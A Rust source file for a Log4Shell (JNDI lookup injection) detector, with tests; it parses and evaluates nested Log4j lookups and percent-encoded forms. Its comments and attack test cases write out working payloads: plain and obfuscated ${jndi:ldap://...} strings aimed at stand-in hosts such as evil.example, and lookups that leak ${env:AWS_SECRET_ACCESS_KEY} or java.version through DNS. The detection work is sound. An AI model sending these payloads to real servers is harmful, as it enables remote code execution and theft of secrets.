//! JNDI lookup injection (Log4Shell, CVE-2021-44228 and relatives).
//!
//! Log4j 2 expands `${prefix:key}` lookups in the text it logs; `${jndi:ldap://host/a}`
//! makes the server fetch and run a remote class, and `${env:AWS_SECRET}` or
//! `${sys:java.version}` leak data through a DNS name. Attackers hide the word `jndi`
//! behind nested lookups that Log4j resolves first: `${${lower:j}ndi:…}`,
//! `${${::-j}${::-n}${::-d}${::-i}:…}`, `${${env:NOPE:-j}ndi:…}`, `${${date:'j'}ndi:…}`.
//!
//! So this detector does what Log4j does instead of matching strings: it parses the
//! `${…}` nesting with an explicit, depth-capped stack (never recursion), evaluates the
//! lookups whose result the attacker chooses (`lower`, `upper`, defaults `:-`, `date`
//! literals) and then inspects what each lookup became. A lookup that resolves to
//! `jndi:` is the attack itself; the data lookups (`env`, `sys`, `java`, …) and the
//! bare obfuscation lookups are Log4j-only syntax, flagged with lower confidence.
//!
//! Values reach us URL-decoded once; payloads that were encoded twice (`%24%7Bjndi:…`)
//! are decoded again, at most twice, before parsing.

use super::Detection;
use super::bytes::ByteSet;

/// Deepest `${` nesting that is parsed as lookups; deeper openers are kept as text.
/// It bounds the work per byte (each byte is copied at most once per level).
const MAX_DEPTH: usize = 16;

/// Extra percent-decoding rounds tried on values that still look encoded.
const MAX_DECODES: usize = 2;

/// Log4j lookups that read data from the server (what an attacker exfiltrates).
const DATA_LOOKUPS: &[&[u8]] = &[
    b"env",
    b"sys",
    b"java",
    b"main",
    b"ctx",
    b"map",
    b"sd",
    b"spring",
    b"k8s",
    b"docker",
    b"web",
    b"bundle",
    b"log4j",
    b"marker",
    b"event",
    b"jvmrunargs",
    b"base64",
];

/// Log4j lookups that transform text rather than read data.
const KNOWN_PREFIXES: &[&[u8]] = &[b"lower", b"upper", b"date"];

/// Protocols the JNDI lookup can reach.
const JNDI_PROTOCOLS: &[&[u8]] = &[
    b"ldap", b"ldaps", b"rmi", b"dns", b"iiop", b"corba", b"nds", b"nis", b"http", b"https",
];

/// Detects a Log4j JNDI lookup or another Log4j lookup in `input`.
pub fn jndi(input: &[u8]) -> Option<Detection> {
    // Fast path. Without a `%` no decoded reading is made, and the value itself holds
    // a finding only with a lookup opener `${` (the evaluator's only way to open a
    // lookup) or a bare `jndi:` (any case): without the bytes of either, nothing.
    let set = ByteSet::of(input);
    if !set.has(b'%')
        && !set.all_of(ByteSet::new(b"${"))
        && !set.lowercased().all_of(ByteSet::new(b"jndi:"))
    {
        return None;
    }
    let mut best = scan(input);
    let mut current = input.to_vec();
    for _ in 0..MAX_DECODES {
        if is_strong(best.as_ref()) {
            break;
        }
        let Some(decoded) = percent_decode(&current) else {
            break;
        };
        let found = scan(&decoded);
        if confidence_of(found.as_ref()) > confidence_of(best.as_ref()) {
            best = found;
        }
        current = decoded;
    }
    best
}

fn confidence_of(d: Option<&Detection>) -> f64 {
    d.map_or(0.0, |d| d.confidence)
}

fn is_strong(d: Option<&Detection>) -> bool {
    confidence_of(d) >= 0.9
}

/// Runs the lookup evaluator and the bare `jndi:proto://` check on one rendering.
fn scan(input: &[u8]) -> Option<Detection> {
    let from_lookups = evaluate(input);
    if is_strong(from_lookups.as_ref()) {
        return from_lookups;
    }
    let bare = bare_jndi_url(input);
    if confidence_of(bare.as_ref()) > confidence_of(from_lookups.as_ref()) {
        bare
    } else {
        from_lookups
    }
}

/// One `${` being parsed: where it opened and its text so far (inner lookups resolved).
struct Frame {
    start: usize,
    text: Vec<u8>,
}

/// What resolving one lookup showed.
#[derive(Clone, Copy, PartialEq, PartialOrd)]
enum Finding {
    /// A lookup Log4j uses only to build other text (`lower:`, `::-x`, `date:'x'`).
    Obfuscation,
    /// A lookup that reads server data (`env:`, `sys:`, …).
    DataLookup,
    /// A `jndi:` lookup with an unknown or hidden protocol.
    Jndi,
    /// A `jndi:` lookup with a known protocol and `:`.
    JndiProtocol,
}

impl Finding {
    fn confidence(self) -> f64 {
        match self {
            Finding::Obfuscation => 0.6,
            Finding::DataLookup => 0.7,
            Finding::Jndi => 0.85,
            Finding::JndiProtocol => 0.97,
        }
    }

    fn name(self) -> &'static str {
        match self {
            Finding::Obfuscation => "log4j:obfuscation",
            Finding::DataLookup => "log4j:data-lookup",
            Finding::Jndi => "log4j:jndi",
            Finding::JndiProtocol => "log4j:jndi-protocol",
        }
    }
}

/// The strongest finding so far and the input span of the lookup that showed it.
struct Best {
    finding: Finding,
    span: (usize, usize),
    nested: bool,
}

/// Parses the `${…}` structure of `input` and evaluates each lookup.
fn evaluate(input: &[u8]) -> Option<Detection> {
    let mut stack: Vec<Frame> = Vec::new();
    let mut best: Option<Best> = None;
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'$' && input.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push(Frame {
                start: i,
                text: Vec::new(),
            });
            i += 2;
            continue;
        }
        if b == b'}'
            && let Some(frame) = stack.pop()
        {
            close(frame, i + 1, &mut stack, &mut best);
            i += 1;
            continue;
        }
        if let Some(top) = stack.last_mut() {
            top.text.push(b);
        }
        i += 1;
    }
    // Truncated payloads: resolve the lookups left open, innermost first.
    while let Some(frame) = stack.pop() {
        close(frame, input.len(), &mut stack, &mut best);
    }
    best.map(|b| {
        let fragment = input.get(b.span.0..b.span.1).unwrap_or(input);
        let mut fingerprint = b.finding.name().to_owned();
        if b.nested {
            fingerprint.push_str("/nested");
        }
        Detection::new(b.finding.confidence(), fragment, fingerprint)
    })
}

/// Resolves a finished lookup, records what it showed and hands its value to the parent.
fn close(frame: Frame, end: usize, stack: &mut [Frame], best: &mut Option<Best>) {
    let (value, finding) = resolve(&frame.text);
    if let Some(finding) = finding {
        let better = best.as_ref().is_none_or(|b| finding > b.finding);
        if better {
            // A lookup inside another one means the payload was assembled from parts.
            let nested = frame.text.len() + 3 < end.saturating_sub(frame.start);
            *best = Some(Best {
                finding,
                span: outer_span(stack, frame.start, end),
                nested,
            });
        }
    }
    if let Some(parent) = stack.last_mut() {
        parent.text.extend_from_slice(&value);
    }
}

/// The span reported as evidence: from the outermost open lookup to `end`.
fn outer_span(stack: &[Frame], start: usize, end: usize) -> (usize, usize) {
    let outer = stack.first().map_or(start, |f| f.start.min(start));
    (outer, end)
}

/// Evaluates one lookup body the way Log4j would, as far as the attacker controls it.
/// Returns the text the lookup expands to and what kind of lookup it was.
fn resolve(text: &[u8]) -> (Vec<u8>, Option<Finding>) {
    let lower = text.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix(b"jndi:") {
        let finding = if has_protocol(rest) {
            Finding::JndiProtocol
        } else {
            Finding::Jndi
        };
        return (text.to_vec(), Some(finding));
    }
    let (prefix, rest) = match text.iter().position(|&c| c == b':') {
        Some(p) => (
            lower.get(..p).unwrap_or_default(),
            text.get(p + 1..).unwrap_or_default(),
        ),
        None => (lower.as_slice(), &[][..]),
    };
    if let Some(default) = default_value(text) {
        // Shell text uses `${VAR:-default}` too: only Log4j's own prefixes (or none,
        // `${::-j}`) make a standalone default a finding. Either way the default is
        // the value, so a hidden `jndi` is still rebuilt in the enclosing lookup.
        let log4j =
            prefix.is_empty() || KNOWN_PREFIXES.contains(&prefix) || DATA_LOOKUPS.contains(&prefix);
        return (default.to_vec(), log4j.then_some(Finding::Obfuscation));
    }
    match prefix {
        b"lower" => (rest.to_ascii_lowercase(), Some(Finding::Obfuscation)),
        b"upper" => (upper(rest), Some(Finding::Obfuscation)),
        b"date" => (quoted_literals(rest), Some(Finding::Obfuscation)),
        _ if DATA_LOOKUPS.contains(&prefix) && !rest.is_empty() => {
            (Vec::new(), Some(Finding::DataLookup))
        }
        _ => (Vec::new(), None),
    }
}

/// The default of `prefix:key:-default`: Log4j returns it when the key is unknown,
/// which attackers arrange (`${::-j}`, `${env:NOPE:-j}`).
fn default_value(text: &[u8]) -> Option<&[u8]> {
    let colon = text.iter().position(|&c| c == b':')?;
    let after = text.get(colon..)?;
    let dash = after.windows(2).position(|w| w == b":-")?;
    after.get(dash + 2..)
}

/// `upper:` as Java does it, including the dotless `ı` that upper-cases to `I`.
fn upper(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    while let Some(&b) = text.get(i) {
        if b == 0xC4 && text.get(i + 1) == Some(&0xB1) {
            out.push(b'I');
            i += 2;
        } else {
            out.push(b.to_ascii_uppercase());
            i += 1;
        }
    }
    out
}

/// The literal parts of a date pattern (`'j'` prints `j`).
fn quoted_literals(pattern: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut inside = false;
    for &c in pattern {
        if c == b'\'' {
            inside = !inside;
        } else if inside {
            out.push(c);
        }
    }
    out
}

/// Whether a `jndi:` body starts with a protocol the lookup can reach, then `:`.
fn has_protocol(rest: &[u8]) -> bool {
    let end = rest
        .iter()
        .position(|c| !c.is_ascii_alphabetic())
        .unwrap_or(rest.len());
    let (proto, tail) = rest.split_at(end);
    tail.first() == Some(&b':') && JNDI_PROTOCOLS.contains(&proto)
}

/// `jndi:ldap://…` without the `${` (stripped by a filter or logged differently).
fn bare_jndi_url(input: &[u8]) -> Option<Detection> {
    let lower = input.to_ascii_lowercase();
    let mut from = 0;
    while let Some(pos) = find(&lower, b"jndi:", from) {
        let start_ok = pos == 0 || !lower.get(pos - 1).is_some_and(u8::is_ascii_alphanumeric);
        let rest = lower.get(pos + 5..).unwrap_or_default();
        if start_ok && has_protocol(rest) && rest.windows(3).take(12).any(|w| w == b"://") {
            let end = (pos + 5 + MAX_URL_SHOWN).min(input.len());
            return Some(Detection::new(
                0.75,
                input.get(pos..end).unwrap_or_default(),
                "log4j:bare-jndi-url",
            ));
        }
        from = pos + 1;
    }
    None
}

/// How much of a bare JNDI URL goes into the fragment.
const MAX_URL_SHOWN: usize = 60;

/// The first position at or after `from` where `needle` occurs in `haystack`.
///
/// Shared with the other detectors of this family. It jumps between occurrences of
/// the needle's first byte, so it stays fast on long values; time is linear for the
/// short, fixed needles the detectors use.
pub(super) fn find(haystack: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let (&first, rest) = needle.split_first()?;
    let mut i = from;
    loop {
        let p = i + super::bytes::position(haystack.get(i..)?, first)?;
        if haystack.get(p + 1..p + 1 + rest.len()) == Some(rest) {
            return Some(p);
        }
        i = p + 1;
    }
}

/// Runs `detect` on `input`, then, until something is found, on the renderings a
/// value can still carry when the request parser did not decode it (cookies, Referer
/// URLs) or when the payload was encoded twice: percent-decoded once more, and that
/// with `+` read as a space (form encoding).
///
/// Shared with the other detectors of this family.
pub(super) fn on_renderings(
    input: &[u8],
    detect: fn(&[u8]) -> Option<Detection>,
) -> Option<Detection> {
    if let Some(hit) = detect(input) {
        return Some(hit);
    }
    let decoded = percent_decode(input);
    if let Some(hit) = decoded.as_deref().and_then(detect) {
        return Some(hit);
    }
    let base = decoded.as_deref().unwrap_or(input);
    plus_as_space(base).and_then(|spaced| detect(&spaced))
}

/// `+` read as a space, for form-encoded values without real spaces; `None` otherwise.
fn plus_as_space(input: &[u8]) -> Option<Vec<u8>> {
    (input.contains(&b'+') && !input.contains(&b' ')).then(|| {
        input
            .iter()
            .map(|&c| if c == b'+' { b' ' } else { c })
            .collect()
    })
}

/// Decodes `%XX` escapes once; `None` when there is nothing to decode.
///
/// Shared with the other detectors of this family: values the parser does not decode
/// (cookies, Referer URLs) and double-encoded payloads still carry escapes.
pub(super) fn percent_decode(input: &[u8]) -> Option<Vec<u8>> {
    // Without a `%` nothing changes (and nothing is allocated).
    if !input.contains(&b'%') {
        return None;
    }
    let mut out = Vec::with_capacity(input.len());
    let mut changed = false;
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'%' {
            let hex = input.get(i + 1).and_then(|&h| hex_value(h));
            let lo = input.get(i + 2).and_then(|&l| hex_value(l));
            if let (Some(h), Some(l)) = (hex, lo) {
                out.push(h << 4 | l);
                changed = true;
                i += 3;
                continue;
            }
        }
        out.push(b);
        i += 1;
    }
    changed.then_some(out)
}

fn hex_value(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::{self, Hostile};

    #[test]
    fn attacks() {
        let cases: &[&[u8]] = &[
            b"${jndi:ldap://evil.example/a}",
            b"${jndi:rmi://10.0.0.1:1099/x}",
            b"${jndi:dns://x.example}",
            b"${JNDI:LDAPS://x/y}",
            b"${${lower:j}ndi:ldap://x/a}",
            b"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            b"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
            b"${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
            b"${${upper:j}ndi:ldap://x/a}",
            b"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
            b"%24%7Bjndi:ldap://x/a%7D",
            b"%2524%257Bjndi:ldap://x/a%257D",
            b"Mozilla/5.0 ${jndi:ldap://${sys:java.version}.x.example/a}",
            b"${jndi:ldap://x/a",
            b"${env:AWS_SECRET_ACCESS_KEY}",
            b"${sys:java.version}",
            b"${${::-j}ndi:ldap://x/a}",
            b"${${foo:-j}ndi:ldap://x/a}",
            b"jndi:ldap://evil.example:1389/Exploit",
        ];
        test_support::assert_detects_all(jndi, cases);
        let strong = jndi(b"${${lower:j}${upper:n}di:ldap://x/a}").expect("hit");
        assert!(strong.confidence >= 0.9);
        assert!(strong.fingerprint.contains("nested"));
    }

    #[test]
    fn benign() {
        let cases: &[&[u8]] = &[
            b"O'Reilly and sons",
            b"price is ${price}",
            b"${x}",
            b"the jndi: tutorial",
            b"rock & roll",
            b":-) ;-) (^_^) <3",
            b"C++ Primer (5th Edition) by Lippman",
            b"Node.js & Express: {fast} (2nd ed.)",
            b"http://example.com/search?q=a+b&page=2#top",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            b"http://example.com/?q=1 or 2 items",
            b"user@example.com",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            b"${HOME}/bin:${PATH}",
            b"ssh ${hostName}",
            b"--keyring=\"${GNUPGHOME:-~/.gnupg}/pubring.kbx\"",
            b"{}}{}${{}}",
            b"select a size",
            b"100% cotton, 50% off",
        ];
        test_support::assert_passes_all(jndi, cases);
    }

    #[test]
    fn hostile_inputs_do_not_panic() {
        test_support::assert_total(
            jndi,
            Hostile {
                fixed: vec![
                    b"${".repeat(100_000),
                    b"}".repeat(100_000),
                    b"${jndi:".repeat(10_000),
                    b"%".repeat(10_000),
                    b"%24%7B".repeat(10_000),
                    b"${:-".repeat(10_000),
                    vec![0xC4; 1000],
                ],
                // Every truncation of a payload that exercises most of the scanner.
                sample: b"${${lower:j}${::-n}${env:X:-d}${date:'i'}:${upper:l}dap://${sys:user.name}.x/a}%24%7Bjndi:rmi://x/a%7D",
                alphabet: b"${}:-jndilowerupper%247Bb'\\\xc4\xb1ldap/",
                seed: 0x9E37_79B9_7F4A_7C15,
                count: 3000,
                max_len: 40,
            },
        );
    }
}
